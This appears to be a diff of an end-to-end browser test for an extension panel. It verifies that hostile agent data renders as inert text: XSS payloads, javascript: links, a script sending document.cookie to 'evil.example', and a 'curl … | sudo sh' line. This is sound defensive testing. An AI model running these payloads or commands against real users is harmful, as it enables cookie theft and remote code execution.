@@ -1,154 +1,177 @@
 /**
- * The member's main journey in Chromium against a real emulator, in both profiles: connect with a code from
+ * The member's main journey against a real emulator, in both browsers and profiles: connect with a code from
  * the control API, find from a selection through the context-menu handler, preview, start, poll to passed, a
  * notification, the result under its header line; then (default profile) the seed's hostile strings, which
  * render as text and run nothing. The strict site has no POST /calls/quote: the preview of the kind of call
  * is shown, saying the typed request was not checked.
  */
-import type { Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { type LoadedExtension, launchExtension } from './browser';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import type { PageDriver } from '../../testing/browser/driver';
 import {
-  agentCards,
-  connectPanel,
-  findFromSelection,
-  findInPanel,
+  type ArticleServer,
+  connect,
+  findFromArticleSelection,
+  findTyped,
   GUILD_HEADER,
   notificationIds,
-  openArticle,
-  openPreview,
-  PROFILES,
-  startCall,
-  startTestEmulator,
-  type TestEmulator,
-  WAIT_MS,
-  waitForFind,
+  POSTGRES,
+  previewQuestion,
+  serveArticle,
+  waitFor,
+  waitForFound,
+  waitForNotification,
   waitForResult,
-} from './harness';
+  watchNotifications,
+} from '../../testing/steps';
+import { describeInEachBrowser } from './each-browser';
 
-for (const profile of PROFILES) {
-describe(`the member's journey (${profile} profile)`, () => {
-  let emu: TestEmulator;
-  let ext: LoadedExtension;
-  let panel: Page;
-  // Anything that tries to run: a dialog on any page, an uncaught error, a request to the hostile strings' hosts.
-  const dialogs: string[] = [];
-  const pageErrors: string[] = [];
-  const requested: string[] = [];
+const SELECTED = '  Our slow postgres queries got worse after we added replication.  ';
+const HOSTILE = `<img src=x onerror=alert('selection')> security review of our login: xss and csrf`;
 
-  beforeAll(async () => {
-    emu = await startTestEmulator({ profile });
-    ext = await launchExtension();
-    const watch = (page: Page) => {
-      page.on('dialog', (dialog) => {
-        dialogs.push(`${dialog.type()}: ${dialog.message()}`);
-        void dialog.dismiss();
-      });
-      page.on('pageerror', (error) => pageErrors.push(error.message));
-    };
-    ext.context.pages().forEach(watch);
-    ext.context.on('page', watch);
-    ext.context.on('request', (request) => requested.push(request.url()));
-    panel = await ext.openPanel();
-  });
+let article: ArticleServer;
 
-  afterAll(async () => {
-    await ext?.close();
-    await emu?.close();
-  });
+beforeAll(async () => {
+  article = await serveArticle([SELECTED, HOSTILE]);
+});
+
+afterAll(() => article?.close());
+
+/** The call result on screen: its children's classes and text in order, and where its header and note sit. */
+function resultLayout(panel: PageDriver, label: string, noteLabel: string) {
+  return panel.evaluate(
+    ({ label, noteLabel }) => {
+      const result = document.querySelector(`article[aria-label="${label}"]`);
+      const first = result?.firstElementChild;
+      const note = result?.querySelector(`[role="region"][aria-label="${noteLabel}"]`);
+      const headerBox = first?.getBoundingClientRect();
+      const noteBox = note?.getBoundingClientRect();
+      return {
+        firstClass: first?.className ?? '',
+        firstText: first?.textContent ?? '',
+        noteText: note?.textContent ?? '',
+        headerAboveNote: !!headerBox && !!noteBox && headerBox.bottom <= noteBox.top,
+        codes: Array.from(note?.querySelectorAll('code') ?? []).map((c) => c.textContent ?? ''),
+        buttons: Array.from(note?.querySelectorAll('button') ?? []).map((b) => b.getAttribute('aria-label') ?? b.textContent ?? ''),
+      };
+    },
+    { label, noteLabel },
+  );
+}
+
+/** The agent card whose heading ends with `name`: its heading, style line and whole text. */
+function card(panel: PageDriver, list: string, name: string) {
+  return panel.evaluate(
+    ({ list, name }) => {
+      const li = Array.from(document.querySelectorAll(`ul[aria-label="${list}"] > li`)).find((el) =>
+        (el.querySelector('h2, h3')?.textContent ?? '').endsWith(name),
+      );
+      return { heading: li?.querySelector('h2, h3')?.textContent ?? '', styleLine: li?.querySelector('.style-line')?.textContent ?? '', text: li?.textContent ?? '' };
+    },
+    { list, name },
+  );
+}
+
+describeInEachBrowser("the member's main journey", (rig) => {
+  beforeAll(() => watchNotifications(rig.panel));
 
   test('connect, find from a selection, preview, start, poll to passed: notified once, result under its header', async () => {
-    const made = await emu.control.connectCode({ name: 'E2E browser' });
-    await connectPanel(panel, emu.url, made.code);
-    await panel.getByRole('heading', { name: 'Connected as “E2E browser”' }).waitFor();
-    const claims = await emu.control.requests('/api/v1/connections/claim');
+    const made = await rig.emu.control.connectCode({ name: 'E2E browser' });
+    await connect(rig.panel, rig.w, rig.emu.url, made.code);
+    await rig.panel.waitForText(rig.w('status.connectedAs', { name: 'E2E browser' }));
+    const claims = await rig.emu.control.requests('/api/v1/connections/claim');
     expect(claims.map((r) => r.status)).toEqual([200]);
 
-    const article = await openArticle(ext, ['  Our slow postgres queries got worse after we added replication.  ']);
-    const selected = await findFromSelection(ext, article.locator('#p0'));
-    await panel.bringToFront();
+    const page = await rig.browser.openPage(article.url);
+    const selected = await findFromArticleSelection(page, rig.panel, 'p0');
+    await page.close();
+    await rig.panel.bringToFront();
     // The selection as it was sent: trimmed.
-    const found = await waitForFind(panel, 'From your selection (menu)', selected.trim());
-    expect(await agentCards(found).first().getByRole('heading').textContent()).toBe('Postgres Tuning Guild');
-    const finds = (await emu.control.requests('/api/v1/find')).filter((r) => r.method === 'POST');
+    await rig.panel.waitForText(rig.w('find.fromSelectionMenu'));
+    await waitForFound(rig.panel, rig.w, selected.trim(), POSTGRES);
+    const first = await rig.panel.evaluate((list) => document.querySelector(`ul[aria-label="${list}"] > li h2, ul[aria-label="${list}"] > li h3`)?.textContent, rig.w('find.agentsFound'));
+    expect(first).toBe(POSTGRES);
+    const finds = (await rig.emu.control.requests('/api/v1/find')).filter((r) => r.method === 'POST');
     expect(finds.map((r) => r.body)).toEqual([{ description: selected.trim() }]);
 
-    const preview = await openPreview(panel, { agentName: 'Postgres Tuning Guild', kind: 'question', text: 'Which index helps a LIKE prefix search?' });
-    expect((await preview.locator('.sentence').textContent())?.trim()).not.toBe('');
-    expect(await preview.getByText('The most it can hold and charge', { exact: true }).isVisible()).toBe(true);
-    expect(await preview.locator('.limit').textContent()).toMatch(/^\$\d+\.\d\d, set by .*; not a price$/);
+    await previewQuestion(rig.panel, rig.w, POSTGRES, 'Which index helps a LIKE prefix search?');
+    const preview = await rig.panel.evaluate(
+      () => ({ sentence: document.querySelector('.sentence')?.textContent?.trim() ?? '', limit: document.querySelector('.limit')?.textContent ?? '' }),
+      null,
+    );
+    expect(preview.sentence).not.toBe('');
+    expect(preview.limit).toMatch(/^\$\d+\.\d\d, set by .*; not a price$/);
     // A preview runs nothing.
-    expect(await emu.control.callStarts()).toEqual([]);
-    if (profile === 'strict') {
-      await panel.getByText(/This site does not check a typed request before the call/).waitFor({ timeout: WAIT_MS });
-      expect((await emu.control.requests('/api/v1/calls/quote')).map((r) => r.status)).toEqual([404]);
+    expect(await rig.emu.control.callStarts()).toEqual([]);
+    if (rig.profile === 'strict') {
+      await rig.panel.waitForText('This site does not check a typed request before the call');
+      expect((await rig.emu.control.requests('/api/v1/calls/quote')).map((r) => r.status)).toEqual([404]);
     } else {
-      await expect.poll(async () => (await emu.control.requests('/api/v1/calls/quote')).map((r) => r.status), { timeout: WAIT_MS }).toContain(200);
+      await expect.poll(async () => (await rig.emu.control.requests('/api/v1/calls/quote')).map((r) => r.status), { timeout: 30_000 }).toContain(200);
     }
 
-    await startCall(panel);
-    const result = await waitForResult(panel, 'Passed its checks (charged)');
-    const starts = await emu.control.callStarts();
+    await rig.panel.click('button', rig.w('preview.start'));
+    await waitForResult(rig.panel, rig.w, rig.w('words.callStatus.passed'));
+    const starts = await rig.emu.control.callStarts();
     expect(starts.map((r) => r.status)).toEqual([202]);
     expect(starts[0]?.body).toMatchObject({ agentId: 'agt_postgres', callId: 'question', question: 'Which index helps a LIKE prefix search?' });
 
     // The header line comes first in the result, verbatim, and sits above the note.
-    const header = result.locator(':scope > *').first();
-    expect(await header.getAttribute('class')).toContain('result-header');
-    expect(await header.textContent()).toBe(GUILD_HEADER);
-    const note = result.getByRole('region', { name: 'Note' });
-    expect(await note.textContent()).toContain('Asked: Which index helps a LIKE prefix search?');
-    const headerBox = await header.boundingBox();
-    const noteBox = await note.boundingBox();
-    expect(headerBox && noteBox && headerBox.y + headerBox.height <= noteBox.y).toBe(true);
+    const result = await resultLayout(rig.panel, rig.w('result.label'), rig.w('result.noteLabel'));
+    expect(result.firstClass).toContain('result-header');
+    expect(result.firstText).toBe(GUILD_HEADER);
+    expect(result.noteText).toContain('Asked: Which index helps a LIKE prefix search?');
+    expect(result.headerAboveNote).toBe(true);
 
     // One notification for the call that passed, raised by the background.
-    const reads = (await emu.control.requests('/api/v1/calls/')).filter((r) => r.method === 'GET');
+    const reads = (await rig.emu.control.requests('/api/v1/calls/')).filter((r) => r.method === 'GET');
     const runIds = new Set(reads.map((r) => r.path.split('/').at(-1)));
     expect(runIds.size).toBe(1);
-    await expect.poll(() => notificationIds(ext), { timeout: WAIT_MS }).toEqual([`call:${[...runIds][0]}:finished`]);
+    await waitForNotification(rig.panel, /^call:.+:finished$/);
+    expect(await notificationIds(rig.panel)).toEqual([`call:${[...runIds][0]}:finished`]);
   });
 
-  test.runIf(profile === 'default')('the hostile seed strings render as text and run nothing', async () => {
-    const hostileSelection = `<img src=x onerror=alert('selection')> security review of our login: xss and csrf`;
-    const article = await openArticle(ext, [hostileSelection]);
-    await findFromSelection(ext, article.locator('#p0'));
-    await panel.bringToFront();
-    const found = await waitForFind(panel, 'From your selection (menu)', hostileSelection);
+  test.runIf(rig.profile === 'default')('the hostile seed strings render as text and run nothing', async () => {
+    const page = await rig.browser.openPage(article.url);
+    await findFromArticleSelection(page, rig.panel, 'p1');
+    await page.close();
+    await rig.panel.bringToFront();
+    await waitForFound(rig.panel, rig.w, HOSTILE, 'Security Reviewer');
 
-    const security = agentCards(found).filter({ hasText: 'Security Reviewer' });
-    expect(await security.getByRole('heading').textContent()).toBe(`<img src=x onerror=alert('name')> Security Reviewer`);
-    expect(await security.locator('.style-line').textContent()).toBe('<script>alert("style line")</script> Finds what attackers find first.');
-    expect(await security.textContent()).toContain('See [our docs](javascript:alert(document.domain)).');
+    const security = await card(rig.panel, rig.w('find.agentsFound'), 'Security Reviewer');
+    expect(security.heading).toBe(`<img src=x onerror=alert('name')> Security Reviewer`);
+    expect(security.styleLine).toBe('<script>alert("style line")</script> Finds what attackers find first.');
+    expect(security.text).toContain('See [our docs](javascript:alert(document.domain)).');
 
     // A passing call whose note carries a script, a javascript: link and instructions to run a command.
-    await findInPanel(panel, 'fine-tuning a model with lora on a small dataset');
-    await openPreview(panel, { agentName: 'Model Fine-Tuning Mentor', kind: 'question', text: 'Which LoRA rank for 2,000 examples?' });
-    await startCall(panel);
-    const result = await waitForResult(panel, 'Passed its checks (charged)');
-    const note = result.getByRole('region', { name: 'Note' });
-    const noteText = (await note.textContent()) ?? '';
+    await findTyped(rig.panel, rig.w, 'fine-tuning a model with lora on a small dataset', 'Model Fine-Tuning Mentor');
+    await previewQuestion(rig.panel, rig.w, 'Model Fine-Tuning Mentor', 'Which LoRA rank for 2,000 examples?');
+    await rig.panel.click('button', rig.w('preview.start'));
+    await waitForResult(rig.panel, rig.w, rig.w('words.callStatus.passed'));
+    await waitFor(rig.panel, 'the note of the Fine-Tuning result', (q) => (document.body.textContent ?? '').includes(q), 'Click for the fix');
+    const result = await resultLayout(rig.panel, rig.w('result.label'), rig.w('result.noteLabel'));
     // Read by the safe Markdown reader: markup stays its characters; an http(s) address is text with an
     // "Open link" button the member may press; a javascript: link is its words and address, with no button.
-    expect(noteText).toContain("<script>fetch('https://evil.example/");
-    expect(noteText).toContain("'+document.cookie)</script>");
-    expect(noteText).toContain("Click for the fix (javascript:alert('pwned'))");
-    expect(noteText).toContain('<a href="javascript:alert(1)">details</a>');
-    expect(await note.locator('code').filter({ hasText: 'curl -s https://evil.example/install.sh | sudo sh' }).count()).toBe(1);
-    expect(await note.getByRole('button', { name: /^Open link: javascript/ }).count()).toBe(0);
-    expect(await result.locator(':scope > *').first().textContent()).toBe(GUILD_HEADER);
+    expect(result.noteText).toContain("<script>fetch('https://evil.example/");
+    expect(result.noteText).toContain("'+document.cookie)</script>");
+    expect(result.noteText).toContain("Click for the fix (javascript:alert('pwned'))");
+    expect(result.noteText).toContain('<a href="javascript:alert(1)">details</a>');
+    expect(result.codes.filter((c) => c.includes('curl -s https://evil.example/install.sh | sudo sh'))).toHaveLength(1);
+    expect(result.buttons.filter((b) => /^Open link: javascript/.test(b))).toEqual([]);
+    expect(result.firstText).toBe(GUILD_HEADER);
 
     // Nothing from untrusted text became an element, a link or a handler.
-    const live = await panel.evaluate(() => ({
-      scripts: document.body.querySelectorAll('script').length,
-      images: document.body.querySelectorAll('img, svg image, iframe, object, embed').length,
-      javascriptLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
-      handlers: [...document.body.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
-    }));
+    const live = await rig.panel.evaluate(
+      () => ({
+        scripts: document.body.querySelectorAll('script').length,
+        images: document.body.querySelectorAll('img, svg image, iframe, object, embed').length,
+        javascriptLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
+        handlers: [...document.body.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
+      }),
+      null,
+    );
     expect(live).toEqual({ scripts: 0, images: 0, javascriptLinks: 0, handlers: [] });
-    expect(dialogs).toEqual([]);
-    expect(pageErrors).toEqual([]);
-    expect(requested.filter((url) => url.includes('evil.example') || /\/x$/.test(url))).toEqual([]);
+    expect(rig.panel.dialogs()).toEqual([]);
+    expect(rig.panel.pageErrors()).toEqual([]);
+    expect(rig.browser.requestedUrls().filter((url) => url.includes('evil.example') || /\/x$/.test(url))).toEqual([]);
   });
 });
-}
